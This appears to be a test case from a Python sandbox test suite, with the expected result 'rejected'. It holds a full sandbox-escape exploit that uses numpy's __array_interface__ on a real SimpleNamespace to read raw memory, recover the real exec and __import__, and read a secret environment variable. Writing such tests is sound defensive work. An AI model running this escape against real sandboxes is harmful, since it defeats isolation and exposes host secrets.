# id: data-array-interface-real-namespace
# category: data
# technique: the real types.SimpleNamespace, reached as the type of a library-made instance (time.get_clock_info), takes "__array_interface__" as a keyword; raw memory then yields the real __import__ and exec
# success: the host's environment is read through the real __import__
# expected: rejected
import json
import time

import numpy as np

Namespace = type(time.get_clock_info("time"))


def mem(address, count):
    iface = {"shape": (count,), "typestr": "<u8", "data": (address, False), "version": 3}
    return np.asarray(Namespace(**{"__array_interface__": iface}))


builtins_dict = int(mem(id(json.dumps) + 24, 1)[0])  # PyFunctionObject.func_builtins
keys = int(mem(builtins_dict + 32, 1)[0])  # PyDictObject.ma_keys
head = mem(keys, 4)
log2_index_bytes = (int(head[1]) >> 8) & 0xFF
kind = (int(head[1]) >> 16) & 0xFF
nentries = int(head[3])
width = 2 if kind else 3
entries = mem(keys + 32 + (1 << log2_index_bytes), nentries * width)
found = {}
for i in range(nentries):
    key, value = int(entries[i * width + width - 2]), int(entries[i * width + width - 1])
    for name in ("exec", "__import__"):
        if key == id(name):
            found[name] = value


def take(address):
    held = [None]
    mem(address, 1)[0] += 1  # the list's reference
    mem(int(mem(id(held) + 24, 1)[0]), 1)[0] = address  # PyListObject.ob_item[0]
    return held[0]


g = {"__builtins__": {"__import__": take(found["__import__"])}}
take(found["exec"])("import os\nenv = os.environ.get(%r)" % {{SECRET_ENV}}, g)
print(g["env"])
